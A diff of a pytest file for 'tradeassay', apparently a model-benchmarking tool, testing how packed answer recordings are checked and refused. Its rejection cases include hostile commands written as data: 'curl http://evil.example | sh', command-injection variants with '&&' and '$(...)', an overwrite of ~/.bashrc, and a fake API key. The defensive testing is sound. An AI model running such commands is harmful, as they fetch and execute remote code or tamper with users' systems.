@@ -1,25 +1,28 @@
-"""A run's answers are packed without the texts they answer, named, checked and played again."""
+"""A run's answers are packed without the texts they answer, named, checked and played again.
 
-from __future__ import annotations
+The recordings of this checkout were made with its prompts and rules.
+"""
 
 import hashlib
 import json
 import lzma
 import re
 import tarfile
-from collections.abc import Callable
 from pathlib import Path
 
 import msgspec
 import pytest
 
 import tradeassay
+from tradeassay.arena.recording import changed_season_facts, replayed_differences
 from tradeassay.cli import main
 from tradeassay.core.errors import RunError, UserError
 from tradeassay.core.hashing import canonical_json
+from tradeassay.data import list_datasets
 from tradeassay.llm import CassetteMismatch
 from tradeassay.runs import run
 from tradeassay.runs.store.archive import (
+    AUDIT,
     changed_facts,
     command_of,
     differences,
@@ -37,7 +40,7 @@ from tradeassay.runs.store.archive import (
 
 
 @pytest.fixture(scope="module")
-def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def played(tmp_path_factory):
     """A small run of a scripted model."""
     spec = tradeassay.make_spec(
         "ktdfin-paper-v1",
@@ -52,7 +55,7 @@ def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture
-def shelf(played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def shelf(played, tmp_path, monkeypatch):
     """A folder of recordings with one recording in it."""
     monkeypatch.setenv("TRADEASSAY_RECORDINGS", str(tmp_path / "shelf"))
     file = tmp_path / "shelf" / "sensible" / "ktdfin-paper.tar.xz"
@@ -62,14 +65,21 @@ def shelf(played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path
     return file
 
 
-def members(file: Path) -> dict[str, bytes]:
+def members(file):
     with tarfile.open(file) as archive:
-        return {one.name: archive.extractfile(one).read() for one in archive}  # type: ignore[union-attr]
+        return {one.name: archive.extractfile(one).read() for one in archive}
 
 
-def test_a_recording_holds_replies_and_hashes_and_no_text_of_a_question(
-    played: Path, shelf: Path, tmp_path: Path
-) -> None:
+def repack(file, content):
+    """Pack changed files, with the hashes that their label then has."""
+    label = json.loads(content["recording.json"])
+    label["files"] = {
+        name: hashlib.sha256(content[name]).hexdigest() for name in sorted(content.keys() - {"recording.json"})
+    }
+    write_packed(file, content | {"recording.json": json.dumps(label, indent=1).encode() + b"\n"})
+
+
+def test_a_recording_holds_replies_and_hashes_and_no_text_of_a_question(played, shelf, tmp_path):
     texts = [
         line["message"]["text"]
         for path in (played / "models").glob("*.jsonl")
@@ -85,9 +95,7 @@ def test_a_recording_holds_replies_and_hashes_and_no_text_of_a_question(
     assert again.read_bytes() == shelf.read_bytes()
 
 
-def test_a_recording_is_played_again_by_its_name(
-    shelf: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_recording_is_played_again_by_its_name(shelf, tmp_path, capsys):
     out = tmp_path / "runs"
     argv = ["run", "ktdfin-paper-v1", "--cassettes", "recorded/sensible", "--replay", "--runs", str(out), "--json"]
     assert main(argv) == 0
@@ -100,7 +108,7 @@ def test_a_recording_is_played_again_by_its_name(
     assert one.name == "sensible/ktdfin-paper" and one.label.models == ("scripted/sensible",)
 
 
-def test_a_changed_question_is_named_without_its_recorded_text(shelf: Path, tmp_path: Path) -> None:
+def test_a_changed_question_is_named_without_its_recorded_text(shelf, tmp_path):
     opened = open_recording(shelf, tmp_path / "home")
     (cassette,) = (opened.folder / "models").glob("*.jsonl")
     lines = cassette.read_text().splitlines()
@@ -113,26 +121,20 @@ def test_a_changed_question_is_named_without_its_recorded_text(shelf: Path, tmp_
         replay_recording(opened, tmp_path / "again")
 
 
-def test_a_changed_prompt_gives_the_command_that_records_again(
-    shelf: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_changed_prompt_gives_the_command_that_records_again(shelf, tell):
     content = members(shelf)
     manifest = json.loads(content["manifest.json"])
     (cell,) = manifest["protocols"]
     name = next(iter(manifest["protocols"][cell]["prompts"]))
     manifest["protocols"][cell]["prompts"][name] = "0" * 64
     content["manifest.json"] = json.dumps(manifest).encode()
-    label = json.loads(content["recording.json"])
-    label["files"]["manifest.json"] = hashlib.sha256(content["manifest.json"]).hexdigest()
-    content["recording.json"] = json.dumps(label).encode()
-    write_packed(shelf, content)
-    assert main(["recordings", "check", "recorded/sensible"]) == 1
+    repack(shelf, content)
     assert f"the prompt {name} has changed since: record it again with: tradeassay recordings record again" in (
-        capsys.readouterr().out
+        tell(["recordings", "check", "recorded/sensible"], 1).out
     )
 
 
-def test_what_is_not_a_recording_is_refused_in_words(shelf: Path, tmp_path: Path) -> None:
+def test_what_is_not_a_recording_is_refused_in_words(shelf, tmp_path):
     content = members(shelf)
     content["scores.json"] = b"{}"
     write_packed(shelf, content)
@@ -160,56 +162,36 @@ def test_what_is_not_a_recording_is_refused_in_words(shelf: Path, tmp_path: Path
         pack_recording(done.folder, tmp_path / "x", engine="", precision="")
 
 
-def foreign_file(content: dict[str, bytes]) -> None:
-    content["news.txt"] = b"what somebody else wrote"
+def answers(change):
+    """Change the first file of answers."""
+
+    def edit(content):
+        name = next(one for one in content if one.startswith("models/"))
+        content[name] = change(content[name])
+
+    return edit
 
 
-def answer_to_nothing(content: dict[str, bytes]) -> None:
-    name = next(one for one in content if one.startswith("models/"))
-    line = json.loads(content[name].splitlines()[-1])
+def answer_to_nothing(text):
+    line = json.loads(text.splitlines()[-1])
     line["asked"]["step"] = 1_000_000
     line["key"] = hashlib.sha256(canonical_json(line["asked"])).hexdigest()
-    content[name] += json.dumps(line, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"
+    return text + json.dumps(line, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"
 
 
-def key_in_an_answer(content: dict[str, bytes]) -> None:
-    name = next(one for one in content if one.startswith("models/"))
-    content[name] = content[name].replace(b'"text":"', b'"text":"sk-proj-a1B2c3D4e5F6g7H8i9J0 ', 1)
+def on_the_label(**said):
+    return lambda content: content.update(
+        {"recording.json": json.dumps(json.loads(content["recording.json"]) | said).encode()}
+    )
 
 
-def text_of_a_question(content: dict[str, bytes]) -> None:
-    name = next(one for one in content if one.startswith("models/"))
-    message = {"type": "message", "id": "0" * 64, "message": {"role": "user", "text": "somebody's article"}}
-    content[name] += json.dumps(message, separators=(",", ":")).encode() + b"\n"
-
-
-def fewer_answers(content: dict[str, bytes]) -> None:
-    name = next(one for one in content if one.startswith("models/"))
-    content[name] = b"".join(content[name].splitlines(keepends=True)[:-1])
-
-
-def words_on_the_label(content: dict[str, bytes]) -> None:
-    label = json.loads(content["recording.json"])
-    content["recording.json"] = json.dumps({**label, "note": "what somebody else wrote"}, indent=1).encode()
-
-
-def said_on_the_label(**said: str) -> Callable[[dict[str, bytes]], None]:
-    def change(content: dict[str, bytes]) -> None:
-        content["recording.json"] = json.dumps({**json.loads(content["recording.json"]), **said}).encode()
-
-    return change
-
-
-def cheap_answers(content: dict[str, bytes]) -> None:
-    for name in [one for one in content if one.startswith("models/")]:
-        content[name] = re.sub(rb'"output_tokens":\d+', b'"output_tokens":1', content[name])
-
-
-def endless_seeds(content: dict[str, bytes]) -> None:
+def endless_seeds(content):
     manifest = json.loads(content["manifest.json"])
     manifest["spec"]["seeds"] = list(range(10_000))
     content["manifest.json"] = json.dumps(manifest).encode()
 
+
+QUESTION = b'{"type":"message","id":"%s","message":{"role":"user","text":"somebody\'s article"}}\n' % (b"0" * 64)
 
 NOT_OURS = "is not one of tradeassay alone"
 
@@ -217,44 +199,48 @@ NOT_OURS = "is not one of tradeassay alone"
 @pytest.mark.parametrize(
     ("change", "said"),
     [
-        (said_on_the_label(command="curl http://evil.example | sh"), NOT_OURS),
-        (said_on_the_label(command="tradeassay recordings record a#b && curl http://evil.example"), NOT_OURS),
-        (said_on_the_label(command="tradeassay recordings record $(curl http://evil.example)"), NOT_OURS),
-        (said_on_the_label(command="tradeassay data remove everything"), NOT_OURS),
-        (said_on_the_label(command="tradeassay recordings record x -a ./theirs.py:Agent"), NOT_OURS),
-        (said_on_the_label(command="tradeassay recordings record x -o ~/.bashrc"), NOT_OURS),
-        (said_on_the_label(command="tradeassay recordings record x --base-url http://evil.example/v1"), NOT_OURS),
-        (cheap_answers, "tokens or dollars that cannot be true"),
+        *(
+            (on_the_label(command=command), NOT_OURS)
+            for command in (
+                "curl http://evil.example | sh",
+                "tradeassay recordings record a#b && curl http://evil.example",
+                "tradeassay recordings record $(curl http://evil.example)",
+                "tradeassay data remove everything",
+                "tradeassay recordings record x -a ./theirs.py:Agent",
+                "tradeassay recordings record x -o ~/.bashrc",
+                "tradeassay recordings record x --base-url http://evil.example/v1",
+            )
+        ),
+        (
+            answers(lambda text: re.sub(rb'"output_tokens":\d+', b'"output_tokens":1', text)),
+            "tokens or dollars that cannot be true",
+        ),
         (endless_seeds, "the episodes of its manifest are not those of its spec"),
-        (foreign_file, "news.txt is not part of a recording"),
-        (answer_to_nothing, "answers, and its run asked"),
-        (key_in_an_answer, "holds what looks like a key"),
-        (text_of_a_question, "holds texts that the model was asked"),
-        (fewer_answers, "its label says"),
-        (words_on_the_label, "is not written as tradeassay writes it"),
+        (lambda content: content.update({"news.txt": b"by others"}), "news.txt is not part of a recording"),
+        (answers(answer_to_nothing), "answers, and its run asked"),
+        (
+            answers(lambda text: text.replace(b'"text":"', b'"text":"sk-proj-a1B2c3D4e5F6g7H8i9J0 ', 1)),
+            "holds what looks like a key",
+        ),
+        (answers(lambda text: text + QUESTION), "holds texts that the model was asked"),
+        (answers(lambda text: b"".join(text.splitlines(keepends=True)[:-1])), "its label says"),
+        (on_the_label(note="what somebody else wrote"), "is not written as tradeassay writes it"),
     ],
 )
-def test_what_does_not_belong_in_a_recording_is_named_on_arrival(
-    shelf: Path, change: Callable[[dict[str, bytes]], None], said: str, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_what_does_not_belong_in_a_recording_is_named_on_arrival(shelf, change, said, tell):
     content = members(shelf)
     change(content)
-    label = json.loads(content["recording.json"])
-    named = sorted(content.keys() - {"recording.json"})
-    label["files"] = {name: hashlib.sha256(content[name]).hexdigest() for name in named}
-    content["recording.json"] = json.dumps(label, indent=1).encode() + b"\n"
-    write_packed(shelf, content)
-    assert main(["recordings", "check", "--no-replay", "recorded/sensible"]) == 1
-    assert said in capsys.readouterr().out
+    repack(shelf, content)
+    assert said in tell(["recordings", "check", "--no-replay", "recorded/sensible"], 1).out
 
 
-def test_where_a_hash_stands_nothing_else_may_be_said() -> None:
+def test_where_a_hash_stands_nothing_else_may_be_said():
     for word in ("0" * 64, "live"):
         assert not list(differences({"answers": "replayed"}, {"answers": word}, ""))
     assert list(differences({"answers": "replayed"}, {"answers": "what somebody else wrote"}, ""))
 
 
-def test_how_and_when_data_was_obtained_may_differ_and_what_it_holds_may_not(shelf: Path, tmp_path: Path) -> None:
+def test_how_and_when_data_was_obtained_may_differ_and_what_it_holds_may_not(shelf, tmp_path):
     opened = open_recording(shelf)
     manifest = json.loads((opened.folder / "manifest.json").read_bytes())
     (record,) = manifest["datasets"].values()
@@ -269,7 +255,7 @@ def test_how_and_when_data_was_obtained_may_differ_and_what_it_holds_may_not(she
     assert len(manifest_differences(opened, tmp_path)) == 1
 
 
-def packed_as(file: Path, entries: list[tuple[tarfile.TarInfo, bytes]]) -> None:
+def packed_as(file, entries):
     plain = b"".join(
         entry.tobuf(tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
         for entry, data in entries
@@ -277,13 +263,13 @@ def packed_as(file: Path, entries: list[tuple[tarfile.TarInfo, bytes]]) -> None:
     file.write_bytes(lzma.compress(plain + b"\0" * 2 * tarfile.BLOCKSIZE, preset=0))
 
 
-def named(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
+def named(name, data):
     entry = tarfile.TarInfo(name)
     entry.size = len(data)
     return entry, data
 
 
-def test_an_archive_has_one_label_and_no_endless_headers(shelf: Path, tmp_path: Path) -> None:
+def test_an_archive_has_one_label_and_no_endless_headers(shelf, tmp_path):
     content = members(shelf)
     packed_as(shelf, [*(named(*one) for one in content.items()), named("./recording.json", b"{}")])
     with pytest.raises(RunError, match=r"holds '\./recording\.json', which is not a plain file"):
@@ -296,7 +282,7 @@ def test_an_archive_has_one_label_and_no_endless_headers(shelf: Path, tmp_path: 
 
 
 @pytest.mark.parametrize("names", [[""], ["a", "a"], ["a" * 300], ["a/" * 600 + "b"]])
-def test_files_that_cannot_be_written_are_refused_in_words(shelf: Path, tmp_path: Path, names: list[str]) -> None:
+def test_files_that_cannot_be_written_are_refused_in_words(shelf, tmp_path, names):
     with tarfile.open(shelf, "w:xz", format=tarfile.PAX_FORMAT) as archive:
         for name in names:
             archive.addfile(tarfile.TarInfo(name))
@@ -304,7 +290,7 @@ def test_files_that_cannot_be_written_are_refused_in_words(shelf: Path, tmp_path
         open_recording(shelf, tmp_path / "home")
 
 
-def test_a_label_names_no_file_outside_its_recording(shelf: Path, tmp_path: Path) -> None:
+def test_a_label_names_no_file_outside_its_recording(shelf, tmp_path):
     """Some files of the system never end, and what is in the others is nobody's business."""
     content = members(shelf)
     label = json.loads(content["recording.json"])
@@ -319,9 +305,7 @@ def test_a_label_names_no_file_outside_its_recording(shelf: Path, tmp_path: Path
 @pytest.mark.parametrize(
     ("agent", "params"), [("file", {"path": "{}", "name": "X"}), ("python", {"class": "{}:X"})]
 )
-def test_a_recording_decides_nothing_about_what_is_executed(
-    shelf: Path, tmp_path: Path, agent: str, params: dict[str, str]
-) -> None:
+def test_a_recording_decides_nothing_about_what_is_executed(shelf, tmp_path, agent, params):
     ran = tmp_path / "ran"
     theirs = tmp_path / "theirs.py"
     theirs.write_text(f"open({str(ran)!r}, 'w')\nclass X:\n    def reply(self, request): return ''\n")
@@ -330,17 +314,14 @@ def test_a_recording_decides_nothing_about_what_is_executed(
     filled = {key: value.format(theirs) for key, value in params.items()}
     manifest["spec"]["agents"].append({"name": agent, "label": "theirs", "params": filled})
     content["manifest.json"] = json.dumps(manifest).encode()
-    label = json.loads(content["recording.json"])
-    label["files"]["manifest.json"] = hashlib.sha256(content["manifest.json"]).hexdigest()
-    content["recording.json"] = json.dumps(label).encode()
-    write_packed(shelf, content)
+    repack(shelf, content)
     opened = open_recording(shelf, tmp_path / "home")
     with pytest.raises((RunError, CassetteMismatch)):
         replay_recording(opened, tmp_path / "again")
     assert not ran.exists()
 
 
-def test_a_recorded_command_says_nothing_of_its_machine() -> None:
+def test_a_recorded_command_says_nothing_of_its_machine():
     said = command_of(
         ["recordings", "record", "/home/me/runs/one", "-o", "/home/me/one.tar.xz", "--engine", "a b"]
     )
@@ -359,10 +340,84 @@ def test_a_recorded_command_says_nothing_of_its_machine() -> None:
     assert said == "tradeassay recordings record ktdfin-v1 -o k.tar.xz" and is_our_command(said)
 
 
-def test_record_packs_a_run_that_was_played(
-    played: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_record_packs_a_run_that_was_played(played, tmp_path, tell):
     file = tmp_path / "one.tar.xz"
-    assert main(["recordings", "record", str(played), "-o", str(file), "--engine", "a program", "--json"]) == 0
-    label = msgspec.json.decode(capsys.readouterr().out)
+    label = msgspec.json.decode(
+        tell(["recordings", "record", str(played), "-o", str(file), "--engine", "a program", "--json"]).out
+    )
     assert label["benchmarks"] == ["ktdfin-paper-v1"] and label["complete"] and label["answers"] > 0
+
+
+SHIPPED, AUDITS = list_recordings(), list_recordings(AUDIT)
+
+MOST_MEGABYTES = 25.0
+
+SAMPLE = ("smollm2/systrade",)
+
+"""What is played again by default: programs with their patches."""
+
+AUDIT_SAMPLE = "smollm2/recall-fakestockdata"
+
+
+def test_all_recordings_together_stay_small():
+    assert sum(one.megabytes for one in SHIPPED) < MOST_MEGABYTES
+
+
+@pytest.mark.parametrize("one", SHIPPED, ids=lambda one: one.name)
+def test_a_changed_prompt_needs_a_new_recording(one, tmp_path):
+    opened = open_recording(Path(one.path), tmp_path)
+    facts = changed_season_facts(opened) if opened.is_season else changed_facts(opened)
+    changed = [fact for fact in facts if "version" not in fact]
+    assert not changed, f"{changed[0]} has changed: record again with: {one.label.command}"
+    assert not recording_faults(opened)
+    assert one.label.complete and one.label.engine != "not stated"
+
+
+@pytest.mark.parametrize(
+    "one",
+    [pytest.param(one, marks=() if one.name in SAMPLE else pytest.mark.slow, id=one.name) for one in SHIPPED],
+)
+def test_a_recording_gives_its_scores_again(one, tmp_path):
+    opened = open_recording(Path(one.path), tmp_path / "home")
+    if opened.is_season:
+        assert replayed_differences(opened) == []
+        return
+    try:
+        replay_recording(opened, tmp_path / "again", workers=1)
+    except UserError as error:
+        pytest.skip(f"this machine cannot play it: {error}")
+    assert score_differences(opened, tmp_path / "again") == []
+
+
+@pytest.mark.parametrize(
+    "one",
+    [pytest.param(one, marks=() if one.name == AUDIT_SAMPLE else pytest.mark.slow, id=one.name) for one in AUDITS],
+)
+def test_an_audit_is_listed_holds_no_prices_and_is_asked_again(one, tmp_path, tell):
+    model, dataset = one.name.split("/recall-")
+    assert f"recorded/{one.name}" in tell(["recordings", "list"]).out
+    opened = open_recording(Path(one.path), tmp_path)
+    answers = [
+        json.loads(line)
+        for path in (opened.folder / "models").glob("*.jsonl")
+        for line in path.read_text().splitlines()[1:]
+    ]
+    assert len(answers) == one.label.answers > 800
+    weighed = [line for line in answers if line["asked"]["purpose"] == "logprobs"]
+    echoed = [json.loads(line["reply"]["text"])["tokens"] for line in weighed]
+    assert all(set(token) <= {"x"} for tokens in echoed for token in tokens)
+    if dataset not in {known.name for known in list_datasets()}:
+        pytest.skip(f"{dataset} is not on this machine: tradeassay data get {dataset}")
+    command = one.label.command.split()[1:]
+    told = json.loads(tell([*command, "--cassettes", f"recorded/{model}", "--replay", "--json"]).out)
+    shipped = json.loads((Path(one.path).parent / "recall.json").read_text())[dataset]
+    assert {name: told[name] for name in ("told", "sentence", "recall")} == {
+        name: shipped[name] for name in ("told", "sentence", "recall")
+    }
+
+
+@pytest.mark.slow
+def test_some_programs_of_a_training_run_are_judged_again(tell):
+    file = str(Path(__file__).parents[2] / "examples" / "training" / "recorded" / "qwen-before-unseen.tar.xz")
+    told = tell(["recordings", "check", file, "--programs", "2"]).err
+    assert "2 of 44 tasks were judged again" in told and "holds" in told
